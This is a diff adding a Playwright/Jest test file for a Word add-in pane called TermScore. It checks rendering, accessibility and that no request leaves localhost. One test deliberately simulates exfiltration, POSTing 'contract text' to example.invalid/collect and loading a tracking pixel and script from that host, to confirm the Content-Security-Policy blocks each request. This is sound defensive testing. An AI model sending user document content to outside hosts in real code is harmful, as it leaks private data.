@@ -1,0 +1,105 @@
+/**
+ * The production pane (dist-local/, office.js from the @microsoft/office-js package) in Debian's
+ * Chromium: it renders outside Office with its explanation, axe-core finds no serious or
+ * critical violations, no request leaves localhost, and the Content-Security-Policy blocks an
+ * outside request if the page tries one. Screenshots go to test-artifacts/.
+ */
+import * as fs from "fs";
+import * as path from "path";
+import type { Browser } from "playwright-core";
+import { ARTIFACTS, AXE_FILE, DIST_LOCAL, launch, openRecordedPage, requireBuild, runAxe, serve, waitForPane, type Served } from "./harness";
+
+jest.setTimeout(120_000);
+
+let server: Served;
+let browser: Browser;
+
+beforeAll(async () => {
+  requireBuild();
+  server = await serve(DIST_LOCAL, AXE_FILE);
+  browser = await launch();
+  fs.mkdirSync(ARTIFACTS, { recursive: true });
+});
+
+afterAll(async () => {
+  await browser?.close();
+  await server?.close();
+});
+
+describe("production pane in Chromium, outside Office", () => {
+  for (const [name, viewport] of [
+    ["pane.png", { width: 320, height: 900 }],
+    ["pane-wide.png", { width: 900, height: 900 }],
+  ] as const) {
+    test(`renders its explanation at ${viewport.width} px, passes axe, stays on localhost (${name})`, async () => {
+      const rec = await openRecordedPage(browser, server.origin, viewport);
+      try {
+        await rec.page.goto(`${server.origin}/taskpane.html`);
+        await waitForPane(rec.page);
+        await rec.page.getByRole("heading", { name: "TermScore" }).waitFor();
+        const text = await rec.page.locator("main").innerText();
+        expect(text).toMatch(/Not running inside Word/);
+        expect(text).toMatch(/open a \.docx file here; it stays on this computer/);
+        // Nothing wider than the pane: no horizontal scrolling at 320 px.
+        const overflow = await rec.page.evaluate(() => document.documentElement.scrollWidth - document.documentElement.clientWidth);
+        expect(overflow).toBeLessThanOrEqual(0);
+        await rec.page.screenshot({ path: path.join(ARTIFACTS, name), fullPage: true });
+        const serious = (await runAxe(rec.page)).filter((v) => v.impact === "serious" || v.impact === "critical");
+        expect(serious).toEqual([]);
+        expect(rec.outside).toEqual([]);
+        expect(rec.attempted.filter((u) => !rec.cspBlocked.includes(u))).toEqual([]);
+        expect(rec.requests.some((u) => u.endsWith("/office-js/office.js"))).toBe(true);
+      } finally {
+        await rec.context.close();
+      }
+    });
+  }
+
+  test("the Content-Security-Policy blocks requests to other origins before they are sent", async () => {
+    const rec = await openRecordedPage(browser, server.origin);
+    try {
+      await rec.page.goto(`${server.origin}/taskpane.html`);
+      await waitForPane(rec.page);
+      const result = await rec.page.evaluate(async () => {
+        const violations: Array<{ blockedURI: string; directive: string }> = [];
+        document.addEventListener("securitypolicyviolation", (e) => violations.push({ blockedURI: e.blockedURI, directive: e.effectiveDirective }));
+        let fetchError = "";
+        try {
+          await fetch("http://example.invalid/collect", { method: "POST", body: "contract text" });
+        } catch (e) {
+          fetchError = String(e);
+        }
+        const img = new Image();
+        const imgDone = new Promise((resolve) => {
+          img.onerror = resolve;
+          img.onload = resolve;
+        });
+        img.src = "https://example.invalid/pixel.png";
+        await imgDone;
+        const script = document.createElement("script");
+        script.src = "https://example.invalid/tracker.js";
+        const scriptDone = new Promise((resolve) => {
+          script.onerror = resolve;
+          script.onload = resolve;
+        });
+        document.head.appendChild(script);
+        await scriptDone;
+        await new Promise((resolve) => setTimeout(resolve, 200));
+        return { violations, fetchError };
+      });
+      expect(result.fetchError).toMatch(/Failed to fetch|TypeError/);
+      const byDirective = Object.fromEntries(result.violations.map((v) => [v.directive, v.blockedURI]));
+      expect(byDirective["connect-src"]).toMatch(/^http:\/\/example\.invalid/);
+      expect(byDirective["img-src"]).toMatch(/^https:\/\/example\.invalid/);
+      expect(byDirective["script-src-elem"] ?? byDirective["script-src"]).toMatch(/^https:\/\/example\.invalid/);
+      // Blocked by the page itself: Chromium refused them for the CSP, so none reached the network
+      // (the test's own abort net for outside requests saw nothing).
+      await rec.page.waitForTimeout(200);
+      expect(rec.outside).toEqual([]);
+      expect([...rec.attempted].sort()).toEqual(["https://example.invalid/pixel.png", "https://example.invalid/tracker.js"]);
+      expect([...rec.cspBlocked].sort()).toEqual(["https://example.invalid/pixel.png", "https://example.invalid/tracker.js"]);
+    } finally {
+      await rec.context.close();
+    }
+  });
+});
